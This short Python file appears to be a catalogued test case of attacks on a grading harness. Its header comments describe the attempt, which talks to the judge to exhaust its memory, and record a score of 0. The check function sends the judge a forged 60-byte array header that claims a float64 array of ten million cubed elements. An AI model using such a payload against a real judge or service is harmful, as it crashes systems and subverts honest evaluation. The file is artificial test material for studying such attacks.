# tries:    sixty bytes that claim to be an array of ten million cubed
# attack:   talking to the judge; memory
# course:   judged
# vanilla:  untried
# verdict:  graded
# score:    0
# reason:
import struct

from unroll.checks import exam


def check(name, thing):
    header = b'{"a": ["<f8", [9999999, 9999999, 9999999], "C"]}'.ljust(60)
    exam._send({"check": name})
    exam._receive()
    exam.channel().sendall(struct.pack("<II", 60, 0) + header)
